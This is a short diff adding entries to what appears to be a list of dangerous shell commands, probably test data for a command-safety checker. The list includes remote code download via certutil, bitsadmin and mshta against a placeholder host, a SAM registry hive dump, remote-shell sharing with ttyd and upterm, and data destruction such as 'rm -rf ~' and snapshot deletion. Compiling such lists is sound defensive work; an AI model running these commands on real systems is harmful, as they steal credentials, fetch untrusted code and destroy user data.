@@ -55,6 +55,25 @@ net share all /delete
 Set-ItemProperty -Path HKLM:\Software\App -Name Run -Value 1
 reg save HKLM\SAM sam.hive
 ssh-copy-id me@host
+certutil -urlcache -f x.exe
+bitsadmin /transfer job x.exe
+rundll32 javascript:alert
+Remove-ADUser carol
+Disable-NetAdapter -Name Wi-Fi
+Uninstall-WindowsFeature DHCP
+Clear-RecycleBin -Force
+scutil --set ComputerName box
+pmset sleepnow
+tmutil thinlocalsnapshots /
+tmutil disable
+zfs rollback pool/home@monday
+lvchange -an vg/home
+brew services stop redis
+ctr run --privileged x y
+ttyd sh
+upterm host
+gcc -o /usr/bin/tool tool.c
+faketime yesterday rm -rf ~
 mshta http://x.example.net/x.hta
 tc qdisc add dev eth0 root netem loss 50%
 npm token create
